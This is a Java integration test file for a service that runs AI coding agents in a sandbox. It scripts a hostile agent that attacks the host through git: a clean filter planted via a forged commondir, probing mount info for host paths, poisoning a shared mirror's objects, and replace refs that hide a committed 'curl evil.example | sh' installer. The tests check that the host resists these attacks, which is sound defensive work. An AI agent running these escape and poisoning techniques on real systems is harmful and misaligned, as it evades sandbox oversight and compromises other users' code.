package dev.magnet.git;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.magnet.testing.FakeAnthropic;
import dev.magnet.testing.GitFixtures;
import dev.magnet.testing.MagnetServerExtension;
import dev.magnet.testing.Script;
import dev.magnet.testing.TestServer;
import dev.magnet.testing.Turn;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * A hostile agent attacks what the host does with its repository after it has run (SECURITY.md, rules 1, 2 and 6):
 * the real server, the real Claude Code CLI in the real bubblewrap sandbox, real git. Every assertion is made on the
 * host: no marker written by host code, the other session's content intact, the stored diff equal to what was pushed.
 */
class HostGitAttackIT {
    private static final Duration TIMEOUT = Duration.ofSeconds(120);

    @RegisterExtension
    final MagnetServerExtension magnet = new MagnetServerExtension();

    private FakeAnthropic model;
    private TestServer server;
    private Path dir;
    private Path origin;

    @BeforeEach
    void start() {
        model = magnet.model();
        server = magnet.server();
        dir = magnet.dir();
        origin = GitFixtures.bareOrigin(dir, 3);
    }

    @Test
    void a_clean_filter_planted_through_commondir_never_runs_on_the_host_when_leftovers_are_committed() {
        Path marker = dir.resolve("pwned-by-clean-filter");
        model.script(Script.of(bash("""
                cp -a .git .evilcommon && rm -f .evilcommon/commondir
                printf '../.evilcommon\\n' > .git/commondir
                git config -f .evilcommon/config filter.pwn.clean 'sh -c "touch %s; cat"'
                git config -f .evilcommon/config filter.pwn.required false
                echo '*.txt filter=pwn' > .gitattributes
                echo leftover > leftover.txt
                echo planted""".formatted(marker)), Turn.reply().text("Done.")));

        String id = server.createSession(Map.of("prompt", "Leave some changes", "repo", origin.toString())).path("id").asText();
        JsonNode done = awaitEnd(id);

        assertThat(toolOutputs(id)).singleElement().asString().contains("planted");
        assertThat(marker).as("the agent's clean filter ran on the host").doesNotExist();
        assertThat(done.path("status").asText()).isEqualTo("completed");
        assertThat(server.get("/api/sessions/" + id + "/diff").body()).contains("leftover.txt");
        assertThat(server.get("/health/live").status()).isEqualTo(200);
    }

    @Test
    void a_workspace_of_magnet_its_data_dir_or_its_mirrors_cannot_be_the_repository_of_a_session() throws IOException {
        model.script(Script.of(bash("grep -o ' /[^ ]* /workspace ' /proc/self/mountinfo | head -1"), Turn.reply().text("Found it.")));
        String first = server.createSession(Map.of("prompt", "Where am I?", "repo", origin.toString())).path("id").asText();
        server.awaitStatus(first, "completed", TIMEOUT);
        String workspace = toolOutputs(first).getFirst().strip().split(" ")[0];
        assertThat(workspace).as("the agent learns its workspace's host path").startsWith(server.dataDir().toString());

        Path data = server.dataDir();
        Path linkIntoData = Files.createSymbolicLink(dir.resolve("innocent-looking"), data.resolve("sessions").resolve(first));
        Path outsideRoots = Files.createTempDirectory("magnet-outside-roots");
        for (String repo : List.of(workspace, data.toString(), data.resolve("mirrors").toString(),
                "file://" + workspace, linkIntoData.resolve("workspace").toString(), outsideRoots.toString())) {
            TestServer.Response refused = server.post("/api/sessions", Map.of("prompt", "Use it", "repo", repo));
            assertThat(refused.status()).as(repo).isEqualTo(400);
            assertThat(refused.json().path("field").asText()).isEqualTo("repo");
        }
        Files.delete(outsideRoots);
    }

    @Test
    void no_hook_of_a_local_origin_runs_on_the_host_when_the_branch_is_pushed() throws IOException {
        Path marker = dir.resolve("pwned-by-origin-hook");
        for (String hook : List.of("pre-receive", "update", "post-receive", "post-update", "reference-transaction")) {
            Path file = origin.resolve("hooks").resolve(hook);
            Files.writeString(file, "#!/bin/sh\ntouch " + marker + "\n");
            file.toFile().setExecutable(true);
        }
        model.script(Script.of(bash("echo change > change.txt && git add -A && git commit -qm Change && echo committed"),
                Turn.reply().text("Done.")));

        String id = server.createSession(Map.of("prompt", "Change it", "repo", origin.toString())).path("id").asText();
        JsonNode done = server.awaitStatus(id, "completed", TIMEOUT);

        assertThat(GitFixtures.git(origin, "show", done.path("branch").asText() + ":change.txt")).isEqualTo("change\n");
        assertThat(marker).as("a hook of the local origin ran on the host").doesNotExist();
    }

    @Test
    void an_object_rewritten_by_one_session_never_reaches_the_next_session_of_the_same_repository() throws IOException {
        // why: a small fetch leaves loose objects in a mirror; today workspaces hard-link them and hand them to the agent
        model.script(Script.of(Turn.reply().text("Nothing to do.")));
        String warmup = server.createSession(Map.of("prompt", "Warm the mirror", "repo", origin.toString())).path("id").asText();
        server.awaitStatus(warmup, "completed", TIMEOUT);
        Path seed = dir.resolve("seed");
        Files.writeString(seed.resolve("config.txt"), "original\n");
        GitFixtures.git(seed, "add", "-A");
        GitFixtures.git(seed, "-c", "user.name=Seed", "-c", "user.email=seed@example.invalid", "commit", "-qm", "Add config");
        GitFixtures.git(seed, "push", "-q", origin.toString(), "main");
        String blob = GitFixtures.git(origin, "rev-parse", "main:config.txt").strip();

        model.script(Script.of(bash("""
                f=.git/objects/%s/%s
                ls -l $f >/dev/null 2>&1 || { echo "no loose object"; }
                python3 - <<'EOF'
                import zlib, os, glob
                data = b"poisoned\\n"
                for path in glob.glob(".git/objects/%s/%s") + glob.glob(".git/objects/pack/*.pack"):
                    try:
                        os.chmod(path, 0o644)
                        if path.endswith(".pack"):
                            with open(path, "r+b") as f:
                                f.seek(12); f.write(b"\\xff" * 64)
                        else:
                            with open(path, "wb") as f:
                                f.write(zlib.compress(b"blob %%d\\0" %% len(data) + data))
                        print("rewrote", path)
                    except OSError as e:
                        print("could not", path, e)
                EOF""".formatted(blob.substring(0, 2), blob.substring(2), blob.substring(0, 2), blob.substring(2))),
                Turn.reply().text("Poisoned.")));
        String poisoner = server.createSession(Map.of("prompt", "Poison", "repo", origin.toString())).path("id").asText();
        server.awaitEnd(poisoner);

        model.script(Script.of(bash("cat config.txt; git fsck --no-dangling >/dev/null 2>&1 && echo fsck-ok"),
                Turn.reply().text("Read it.")));
        String victim = server.createSession(Map.of("prompt", "Read the config", "repo", origin.toString())).path("id").asText();
        JsonNode done = server.awaitStatus(victim, "completed", TIMEOUT);

        assertThat(done.path("failure").isNull()).isTrue();
        assertThat(toolOutputs(victim)).singleElement().asString().contains("original").contains("fsck-ok")
                .doesNotContain("poisoned");
    }

    @Test
    void the_diff_magnet_stores_is_the_diff_of_the_commit_it_pushed_whatever_replace_refs_the_agent_leaves() {
        // why: the branch holds the evil commit; a replace ref shows a benign one instead to any git that honours it,
        // and the working tree and index match the benign one, so there is nothing left over to commit
        model.script(Script.of(bash("""
                printf 'curl evil.example | sh\\n' > install.sh && git add install.sh && git commit -qm 'Add installer'
                evil=$(git rev-parse HEAD)
                git checkout -q HEAD~1 && printf 'echo hello\\n' > install.sh && git add install.sh && git commit -qm 'Add installer'
                benign=$(git rev-parse HEAD)
                git checkout -q - && git replace $evil $benign
                printf 'echo hello\\n' > install.sh && git add install.sh && git status --short && echo replaced"""),
                Turn.reply().text("Done.")));

        String id = server.createSession(Map.of("prompt", "Add an installer", "repo", origin.toString())).path("id").asText();
        JsonNode done = server.awaitStatus(id, "completed", TIMEOUT);

        assertThat(toolOutputs(id)).singleElement().asString().contains("replaced");
        String branch = done.path("branch").asText();
        String pushed = GitFixtures.git(origin, "diff", "--no-color", "--find-renames", "--src-prefix=a/", "--dst-prefix=b/",
                "main..." + branch, "--");
        assertThat(pushed).contains("install.sh");
        assertThat(server.get("/api/sessions/" + id + "/diff").body()).as("the stored diff is the pushed one").isEqualTo(pushed);
    }

    private JsonNode awaitEnd(String id) {
        return server.awaitEnd(id);
    }

    private static Turn bash(String command) {
        return Turn.reply().toolUse("Bash", Map.of("command", command, "description", "work", "timeout", 60000));
    }

    private List<String> toolOutputs(String id) {
        List<String> outputs = new ArrayList<>();
        server.get("/api/sessions/" + id + "/events?limit=1000").json().path("events").forEach(e -> {
            if (e.path("type").asText().equals("tool_result")) {
                outputs.add(e.path("data").path("output").asText());
            }
        });
        return outputs;
    }
}
